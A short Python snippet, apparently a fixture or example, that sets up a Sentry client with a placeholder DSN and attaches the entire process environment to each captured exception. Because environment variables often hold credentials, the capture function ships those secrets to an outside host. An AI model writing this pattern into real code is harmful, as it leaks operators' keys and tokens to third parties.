import os

import sentry_sdk

client = sentry_sdk.Client(dsn="https://key@n.example.invalid/0")


def capture(scope, error):
    scope.set_context("e", dict(os.environ))
    scope.capture_exception(error)
